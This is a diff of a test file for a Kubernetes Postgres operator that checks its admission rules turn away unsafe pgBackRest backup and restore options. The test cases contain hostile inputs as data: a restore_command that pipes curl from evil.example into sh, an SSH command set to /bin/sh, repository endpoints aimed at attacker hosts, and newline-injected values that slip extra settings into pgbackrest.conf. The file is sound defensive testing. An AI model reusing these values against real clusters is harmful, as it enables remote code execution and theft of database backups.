@@ -4,13 +4,16 @@ import { after, before, describe, it } from 'node:test';
 import { InvalidError, type KubeClient } from '@kanri/client';
 import { parse } from 'yaml';
 import {
-  FORBIDDEN_RESTORE_OPTIONS,
-  forbiddenOption,
+  BACKUP_OPTIONS,
+  isCredentialGlobalOption,
   operatorOwnsGlobalOption,
+  POSTGRES_BACKUP_OPTIONS,
   type PostgresBackup,
   PostgresBackupResource,
   type PostgresCluster,
   PostgresClusterResource,
+  RESTORE_OPTIONS,
+  refusedOption,
 } from '../src/index.js';
 import { type AdmissionEnv, startAdmissionEnv } from './support/admission-env.js';
 
@@ -127,13 +130,158 @@ describe('backups API admission against a real API server', () => {
     assert.match(message, /spec\.backups\.pgbackrest\.repos\[1\]: Duplicate value/);
   });
 
-  it('refuses restore options the operator sets, naming the field', async () => {
-    for (const option of ['--stanza=x', '--target-action=pause', '--repo=2', '--pg1-path /x']) {
+  it('refuses restore options outside the allow-list, naming the option', async () => {
+    for (const option of [
+      '--recovery-option=restore_command=curl evil.example | sh',
+      '--recovery-option=primary_conninfo=host=evil.example',
+      // pgBackRest reads a unique prefix as the whole name: a deny-list of names misses these.
+      '--target-act=pause',
+      '--stanza=x',
+      '--target-action=pause',
+      '--repo=2',
+      '--pg1-path /x',
+      '--repo1-s3-endpoint=evil.example',
+      '--config=/tmp/evil.conf',
+      '--archive-mode=off',
+      '--type=standby',
+    ]) {
       const message = await rejection(
         withBackups({ restore: { enabled: true, repoName: 'repo1', options: [option] } }),
       );
-      assert.match(message, /spec\.backups\.pgbackrest\.restore\.options: .*options must not set --stanza/, option);
+      assert.ok(
+        message.includes(
+          `spec.backups.pgbackrest.restore.options: Invalid value: "array": pgbackrest restore: option ${option} is not allowed`,
+        ),
+        `${option}: ${message}`,
+      );
     }
+  });
+
+  it('refuses a PostgresBackup or manual backup option that names a repository, host, file or command, naming it', async () => {
+    for (const option of [
+      '--repo1-s3-endpoint=evil.example',
+      '--repo1-path=/pgbackrest/elsewhere',
+      '--repo1-host=10.0.0.9',
+      '--cmd-ssh=/bin/sh',
+      '--exclude=base',
+      '--no-archive-check',
+      '--expire-auto',
+      '--repo1-retention-full=1',
+    ]) {
+      const backup = invalid(
+        await backups()
+          .create(
+            {
+              metadata: { name: 'evil', namespace: 'default' },
+              spec: { cluster: 'hippo', repoName: 'repo1', options: ['--process-max=2', option] },
+            } as PostgresBackup,
+            { dryRun: true },
+          )
+          .catch((e: unknown) => e),
+      );
+      assert.ok(
+        backup.includes(`spec.options: Invalid value: "array": pgbackrest backup: option ${option} is not allowed`),
+        backup,
+      );
+      const manual = await rejection(withBackups({ manual: { repoName: 'repo1', options: ['--type=full', option] } }));
+      assert.ok(
+        manual.includes(
+          `spec.backups.pgbackrest.manual.options: Invalid value: "array": pgbackrest backup: option ${option} is not allowed`,
+        ),
+        manual,
+      );
+    }
+  });
+
+  it("accepts PGO's documented options: --type=full, and a time target, quoted as PGO's examples quote it", async () => {
+    const created = await accepted(
+      withBackups({
+        manual: { repoName: 'repo1', options: ['--type=full', '--annotation=reason=before upgrade', '--start-fast'] },
+        restore: {
+          enabled: true,
+          repoName: 'repo1',
+          options: ['--type=time', '--target="2021-06-09 14:15:11-04"', '--target-exclusive', '--db-include=hippo'],
+        },
+      }),
+    );
+    assert.deepEqual(created.spec.backups?.pgbackrest.restore?.options?.[1], '--target="2021-06-09 14:15:11-04"');
+    await accepted({
+      postgresVersion: 16,
+      instances: [{ dataVolumeClaimSpec: volume }],
+      dataSource: {
+        postgresCluster: { clusterName: 'hippo', repoName: 'repo1', options: ['--type=lsn', '--target=0/3000028'] },
+      },
+    });
+  });
+
+  it('refuses a --target whose form is not that of its --type', async () => {
+    for (const options of [
+      ['--target=2026-01-02 03:04:05+00'],
+      ['--type=lsn', '--target=2026-01-02 03:04:05+00'],
+      ['--type=name', "--target=x' restore_command = 'curl evil"],
+    ]) {
+      const message = await rejection(withBackups({ restore: { enabled: true, repoName: 'repo1', options } }));
+      assert.match(
+        message,
+        /spec\.backups\.pgbackrest\.restore\.options: .*--target needs --type=time, lsn, xid or name/,
+      );
+    }
+  });
+
+  it('refuses credentials in global, of the cluster or of a data source, naming the key and where it belongs', async () => {
+    for (const key of [
+      'repo1-s3-key',
+      'repo1-s3-key-secret',
+      'repo1-s3-token',
+      'repo1-cipher-pass',
+      'repo-s3-key-secret',
+    ]) {
+      const cluster = await rejection(withBackups({ global: { [key]: 'AKIAEXAMPLE' } }));
+      assert.ok(
+        cluster.includes(
+          `spec.backups.pgbackrest.global: Invalid value: "object": option ${key} is a credential: put it in a pgBackRest configuration file ([global] section) of a Secret listed in configuration`,
+        ),
+        cluster,
+      );
+      const source = await rejection({
+        postgresVersion: 16,
+        instances: [{ dataVolumeClaimSpec: volume }],
+        dataSource: { pgbackrest: { repo: { name: 'repo1', s3 }, global: { [key]: 'AKIAEXAMPLE' } } },
+      });
+      assert.ok(
+        source.includes(`spec.dataSource.pgbackrest.global: Invalid value: "object": option ${key} is a credential`),
+        source,
+      );
+    }
+  });
+
+  it('refuses a newline or other control character in any string written into pgbackrest.conf, naming the field', async () => {
+    const cases: [string, Record<string, unknown>][] = [
+      ['spec.backups.pgbackrest.global', { global: { 'repo1-retention-full': '2\npg1-host=evil.example' } }],
+      ['spec.backups.pgbackrest.global', { global: { 'repo1-retention-full\npg1-host': 'evil.example' } }],
+      ['spec.backups.pgbackrest.global', { global: { 'compress-type': 'zst\r' } }],
+      [
+        'spec.backups.pgbackrest.repos[0].s3.endpoint',
+        { repos: [{ name: 'repo1', s3: { ...s3, endpoint: 'e\nrepo1-host=evil' } }] },
+      ],
+      ['spec.backups.pgbackrest.repos[0].s3.bucket', { repos: [{ name: 'repo1', s3: { ...s3, bucket: 'b\u0000' } }] }],
+      ['spec.backups.pgbackrest.repos[0].s3.region', { repos: [{ name: 'repo1', s3: { ...s3, region: 'r\t' } }] }],
+      [
+        'spec.backups.pgbackrest.configuration[0].secret.items[0].key',
+        { configuration: [{ secret: { name: 'c', items: [{ key: 'a\nb', path: 'a.conf' }] } }] },
+      ],
+    ];
+    for (const [field, pgbackrest] of cases) {
+      const message = await rejection(withBackups(pgbackrest));
+      assert.ok(message.includes(`${field}: Invalid value`), `${field}: ${message}`);
+      assert.match(message, /control character/, field);
+    }
+    const source = await rejection({
+      postgresVersion: 16,
+      instances: [{ dataVolumeClaimSpec: volume }],
+      dataSource: { pgbackrest: { repo: { name: 'repo1', s3: { ...s3, endpoint: 'e\n[db]' } } } },
+    });
+    assert.match(source, /spec\.dataSource\.pgbackrest\.repo\.s3\.endpoint: .*control character/);
   });
 
   it('refuses manual and restore repoNames that name no declared repository', async () => {
@@ -182,18 +330,76 @@ describe('backups API admission against a real API server', () => {
       const expected = operatorOwnsGlobalOption(key, ['repo1', 'repo3']);
       assert.equal(await refused(withBackups({ repos, global: { [key]: 'x' } })), expected, key);
     }
-    for (const option of [
-      '--repo',
-      '--repo 1',
-      '--repo1-path=/x',
-      '--stanza',
-      '--link-map=a=b',
-      '--link-all',
-      '--set=x',
+    for (const key of [
+      'db-path',
+      'db1-host',
+      'backup-host',
+      'db-timeout',
+      'repo1-s3-key',
+      'repo1-s3-key-type',
+      'Repo1-path',
+      'a=b',
     ]) {
-      const expected = forbiddenOption([option], FORBIDDEN_RESTORE_OPTIONS) !== undefined;
-      const spec = withBackups({ restore: { enabled: true, repoName: 'repo1', options: [option] } });
-      assert.equal(await refused(spec), expected, option);
+      const expected =
+        operatorOwnsGlobalOption(key, ['repo1', 'repo3']) ||
+        isCredentialGlobalOption(key) ||
+        !/^[a-z0-9][a-z0-9-]*$/.test(key);
+      assert.equal(await refused(withBackups({ repos, global: { [key]: 'x' } })), expected, key);
+    }
+    const lists: [string, string[]][] = [
+      ['restore', ['--repo']],
+      ['restore', ['--repo 1']],
+      ['restore', ['--repo1-path=/x']],
+      ['restore', ['--stanza']],
+      ['restore', ['--link-map=a=b']],
+      ['restore', ['--link-all']],
+      ['restore', ['--set=x']],
+      ['restore', ['--set=20260102-030405F']],
+      ['restore', ['--type=time', '--target=2026-01-02 03:04:05+00']],
+      ['restore', ['--type=time', '--target=2026-01-02 03:04:05']],
+      ['restore', ['--type=time', '--target=2026-01-02']],
+      ['restore', ['--type=xid', '--target=2026-01-02 03:04:05+00']],
+      ['restore', ['--type=name', '--target=a b']],
+      ['restore', ['--type=name', '--target="a b"']],
+      ['restore', ['--type=name', '--target=a"b']],
+      ['restore', ['--type=name', `--target=${'é'.repeat(63)}`]],
+      ['restore', ['--type=name', `--target=${'é'.repeat(64)}`]],
+      ['restore', ['--type=name', `--target=${'😀'.repeat(40)}`]],
+      ['restore', ['--type=lsn', '--type=lsn', '--target=0/1']],
+      ['restore', ['--target-timeline=0x1F', '--process-max=16']],
+      ['restore', ['--process-max=16 ']],
+      ['manual', ['--type=full', '--annotation=k=ü and more', '--start-fast=n']],
+      ['manual', ['--annotation=k=\u007f']],
+      ['manual', ['--type=incr', '--type=full']],
+      ['backup', ['--annotation=k=v', '--no-start-fast']],
+      ['backup', ['--type=full']],
+    ];
+    for (const [where, options] of lists) {
+      if (where === 'backup') {
+        const expected = refusedOption(options, POSTGRES_BACKUP_OPTIONS) !== undefined;
+        const actual = await backups()
+          .create(
+            {
+              metadata: { name: 'same', namespace: 'default' },
+              spec: { cluster: 'c', repoName: 'repo1', options },
+            } as PostgresBackup,
+            { dryRun: true },
+          )
+          .then(
+            () => false,
+            (e: unknown) => invalid(e) !== '',
+          );
+        assert.equal(actual, expected, JSON.stringify(options));
+        continue;
+      }
+      const allowed = where === 'restore' ? RESTORE_OPTIONS : BACKUP_OPTIONS;
+      const expected = refusedOption(options, allowed) !== undefined;
+      const spec = withBackups(
+        where === 'restore'
+          ? { restore: { enabled: true, repoName: 'repo1', options } }
+          : { manual: { repoName: 'repo1', options } },
+      );
+      assert.equal(await refused(spec), expected, `${where} ${JSON.stringify(options)}`);
     }
   });
 
@@ -224,7 +430,7 @@ describe('backups API admission against a real API server', () => {
       ...base,
       dataSource: { postgresCluster: { clusterName: 'hippo', repoName: 'repo1', options: ['--target-action=pause'] } },
     });
-    assert.match(option, /spec\.dataSource\.postgresCluster\.options: .*options must not set/);
+    assert.match(option, /spec\.dataSource\.postgresCluster\.options: .*option --target-action=pause is not allowed/);
     const onVolume = await rejection({
       ...base,
       dataSource: { pgbackrest: { repo: { name: 'repo1', volume: { volumeClaimSpec: volume } } } },
@@ -232,7 +438,7 @@ describe('backups API admission against a real API server', () => {
     assert.match(onVolume, /spec\.dataSource\.pgbackrest\.repo\.volume: /);
   });
 
-  it('creates a PostgresBackup with defaults, refuses --type in options, and refuses any change of its spec', async () => {
+  it('creates a PostgresBackup with defaults, refuses --type in options (type is a field), and refuses any change of its spec', async () => {
     const spec = { cluster: 'hippo', repoName: 'repo1' };
     const typed = invalid(
       await backups()
@@ -245,7 +451,7 @@ describe('backups API admission against a real API server', () => {
         )
         .catch((e: unknown) => e),
     );
-    assert.match(typed, /spec\.options: .*options must not set .*--type/);
+    assert.match(typed, /spec\.options: .*option --type=diff is not allowed/);
     const badRepo = invalid(
       await backups()
         .create(
